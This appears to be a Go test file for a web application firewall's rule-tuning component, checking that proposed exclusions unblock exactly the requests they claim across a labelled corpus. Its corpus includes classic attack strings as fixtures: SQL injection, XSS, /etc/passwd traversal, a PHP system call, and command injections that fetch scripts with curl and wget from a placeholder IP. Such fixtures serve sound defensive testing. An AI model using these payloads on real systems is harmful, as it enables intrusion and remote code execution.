package tuning

import (
	"bufio"
	"compress/gzip"
	"flag"
	"fmt"
	"io"
	"maps"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/gatewatch/gatewatch/detection/verdict"
	"github.com/gatewatch/gatewatch/services/waf"
	"github.com/gatewatch/gatewatch/services/waf/bundle"
)

var rerunCorpus = flag.String("rerun-corpus", "", "folder of *.jsonl.gz with labelled requests whose proposals TestRerun runs again too")

// rerun is a corpus that proposals are made of and run over again.
type rerun struct {
	legit, attacks, guard []*verdict.Request
	cases                 []*Case // blocked ones of legit and attacks
	guarded               []*Case // of guard
}

// TestRerun puts each proposal into a bundle, behind those before it as they are
// applied, reads that as a node does, and judges the whole corpus anew: exactly the
// requests of which the proposal says so may fare otherwise than before.
func TestRerun(t *testing.T) {
	corpora := map[string]*rerun{"own": ownCorpus()}
	if *rerunCorpus != "" {
		corpora["folder"] = folderCorpus(t, *rerunCorpus)
	}
	for name, corpus := range corpora {
		corpus.judge(t)
		scopes := []Scope{Path, Site}
		if testing.Short() {
			scopes = scopes[:1] // both cost what compiling the rules costs
		}
		for _, scope := range scopes {
			t.Run(name+"/"+string(scope), func(t *testing.T) {
				proposals, requests := corpus.run(t, Config{Scope: scope, GuardLoss: 0.2, Limit: 50})
				t.Logf("%d proposals, %d requests that change", proposals, requests)
				if proposals < 5 || requests < 30 {
					t.Errorf("%d proposals and %d requests prove nothing", proposals, requests)
				}
			})
		}
	}
}

// judge sorts out what is blocked.
func (c *rerun) judge(t *testing.T) {
	t.Helper()
	engine, err := waf.Compile(waf.CorpusSettings())
	if err != nil {
		t.Fatal(err)
	}
	defer engine.Close()
	take := func(all []*verdict.Request, pAttack float64) (cases []*Case) {
		found := make([]*Case, len(all))
		err := eachOf(t.Context(), len(all), func(i int) error {
			d, err := engine.JudgeRequest(t.Context(), all[i])
			if d.Block {
				found[i] = &Case{Request: all[i], Decision: d, PAttack: pAttack, Labeled: true}
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		return slices.DeleteFunc(found, func(c *Case) bool { return c == nil })
	}
	c.cases = append(take(c.legit, 0), take(c.attacks, 1)...)
	c.guarded = take(c.guard, 1)
}

// run proposes, and runs each proposal again. It returns how many there were, and how
// many requests they changed.
func (c *rerun) run(t *testing.T, cfg Config) (proposals, requests int) {
	plan, err := Propose(t.Context(), cfg, waf.CorpusSettings(), compile(t), c.cases, c.guarded, nil)
	if err != nil {
		t.Fatal(err)
	}
	everything := slices.Concat(c.legit, c.attacks, c.guard)
	var watched []*verdict.Request // those blocked at first; all others are judged at the end
	for _, x := range slices.Concat(c.cases, c.guarded) {
		watched = append(watched, x.Request)
	}
	b := &bundle.Bundle{Version: bundle.Version, CRS: waf.CRSVersion}
	freed := passing(t, b, everything)
	if blocked := len(everything) - len(freed); blocked != len(watched) {
		t.Fatalf("%d requests are blocked under an empty bundle, %d by the rules alone", blocked, len(watched))
	}
	passed := map[string]map[string]bool{} // by site
	for i := range plan.Proposals {
		p := &plan.Proposals[i]
		same := directives(t, b, everything)
		b.Exclusions = append(b.Exclusions, bundle.Exclusion{ID: fmt.Sprint("proposal-", p.ID), Site: p.Site, Owner: "ann", Reason: "rerun", Directive: p.Directive})
		for site, now := range directives(t, b, everything) {
			if (same[site] == now) == (site == p.Site) {
				t.Errorf("proposal %d for %s: rules of %s are the same: %v", i, p.Site, site, same[site] == now)
			}
		}
		before, after := passed[p.Site], passing(t, b, of(p.Site, watched))
		passed[p.Site] = after
		want := map[string]bool{}
		for _, id := range slices.Concat(p.Unblocks, p.Guard) {
			want[id], freed[id] = true, true
		}
		got := maps.Clone(after)
		for id := range before {
			if !after[id] {
				t.Errorf("proposal %d blocks %s, which passed: %s", i, id, p.Directive)
			}
			delete(got, id)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("proposal %d (-said +done):\n%s%s", i, diff, p.Directive)
		}
		requests += len(want)
	}
	if diff := cmp.Diff(freed, passing(t, b, everything)); diff != "" {
		t.Errorf("requests that pass with all proposals (-said +done):\n%s", diff)
	}
	return len(plan.Proposals), requests
}

// directives are the rules that a bundle has for the sites of requests.
func directives(t *testing.T, b *bundle.Bundle, all []*verdict.Request) map[string]bundle.Directives {
	t.Helper()
	rules := map[string]bundle.Directives{}
	for _, r := range all {
		if _, ok := rules[r.Site]; ok {
			continue
		}
		var err error
		if rules[r.Site], err = b.For(r.Site, rerunTime); err != nil {
			t.Fatal(err)
		}
	}
	return rules
}

// of are the requests of a site.
func of(site string, all []*verdict.Request) (some []*verdict.Request) {
	for _, r := range all {
		if r.Site == site {
			some = append(some, r)
		}
	}
	return some
}

// rerunTime is when the bundles are used.
var rerunTime = time.Unix(1_800_000_000, 0)

// passing are the requests that a bundle lets pass, by their ids.
func passing(t *testing.T, b *bundle.Bundle, all []*verdict.Request) map[string]bool {
	t.Helper()
	text, err := b.Encode()
	if err != nil {
		t.Fatal(err)
	}
	read, err := bundle.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	rules := &waf.SiteRules{Settings: waf.CorpusSettings(), Bundle: read, Now: rerunTime}
	defer rules.Close()
	pass := make([]bool, len(all))
	err = eachOf(t.Context(), len(all), func(i int) error {
		engine, err := rules.Of(all[i].Site)
		if err != nil {
			return err
		}
		d, err := engine.JudgeRequest(t.Context(), all[i])
		pass[i] = err == nil && !d.Block
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]bool{}
	for i, ok := range pass {
		if ok {
			ids[all[i].ID] = true
		}
	}
	return ids
}

// ownCorpus is traffic of sites of which each is wrongly blocked for another cause, with
// attacks at the same places and requests that nobody blocks.
func ownCorpus() *rerun {
	c := &rerun{}
	c.legit, c.attacks, c.guard = posts()
	get := func(id, host, uri string, headers ...[2]string) *verdict.Request {
		return &verdict.Request{
			ID: id, Site: host, Method: "GET", URI: uri, Proto: "HTTP/1.1",
			Headers: append([][2]string{{"Host", host}, {"User-Agent", "Mozilla/5.0"}, {"Accept", "*/*"}}, headers...),
		}
	}
	texts := []string{
		"select a from b union select c from d", "1 or 1=1", "<script>alert(1)</script> in a page", "<img src=x onerror=alert(1)>",
		"cat /etc/passwd; ls", "../../etc/passwd", "$(curl http://203.0.113.7/x)", "; wget http://203.0.113.7/a.sh", "<?php system('id'); ?>",
	}
	for i, text := range texts {
		quoted := url.QueryEscape(text)
		add := func(all *[]*verdict.Request, r *verdict.Request) { *all = append(*all, r) }
		add(&c.legit, get(fmt.Sprint("search", i), "shop.example", "/search?page=1&q="+quoted))
		add(&c.legit, post(fmt.Sprint("wiki", i), "wiki.example", "/page/"+fmt.Sprint(10+i)+"/edit", form, "summary=small&content="+quoted))
		add(&c.legit, post(fmt.Sprint("api", i), "api.example", "/v1/notes", "application/json", fmt.Sprintf(`{"notes":[{"title":"a"},{"title":%q}],"n":1}`, text)))
		add(&c.legit, get(fmt.Sprint("visit", i), "shop.example", "/item/"+fmt.Sprint(i), [2]string{"Cookie", "last=" + quoted}))
		add(&c.attacks, get(fmt.Sprint("probe", i), "shop.example", "/search?q=a&page="+quoted))
		add(&c.guard, post(fmt.Sprint("defaced", i), "wiki.example", "/page/3/edit", form, "content=a&summary="+quoted))
		add(&c.legit, get(fmt.Sprint("plain", i), "shop.example", "/search?q=shoes&page="+fmt.Sprint(i)))
	}
	for i := range 4 {
		put := post(fmt.Sprint("put", i), "files.example", "/docs/"+fmt.Sprint(i), "application/json", `{"a":1}`)
		put.Method = []string{"PUT", "DELETE"}[i%2]
		c.legit = append(c.legit, put)
	}
	return c
}

// folderCorpus reads labelled requests: those that are no attacks, and each tenth
// attack as what must stay blocked.
func folderCorpus(t *testing.T, dir string) *rerun {
	t.Helper()
	names, err := filepath.Glob(filepath.Join(dir, "*.jsonl.gz"))
	if err != nil || len(names) == 0 {
		t.Fatalf("%d files in %s: %v", len(names), dir, err)
	}
	c, attacks := &rerun{}, 0
	for _, name := range names {
		eachLine(t, name, func(line []byte) {
			r := &verdict.Request{}
			if err := verdict.ReadRequest(line, r); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			r.ID = filepath.Base(name) + " " + r.ID
			if strings.Contains(string(line[:min(len(line), 400)]), `"label": "attack"`) {
				if attacks++; attacks%10 == 0 {
					c.guard = append(c.guard, r)
				}
				return
			}
			c.legit = append(c.legit, r)
		})
	}
	return c
}

func eachLine(t *testing.T, name string, yield func([]byte)) {
	t.Helper()
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	packed, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewReaderSize(packed, 1<<16)
	for {
		line, err := lines.ReadBytes('\n')
		if len(line) > 0 {
			yield(line)
		}
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}
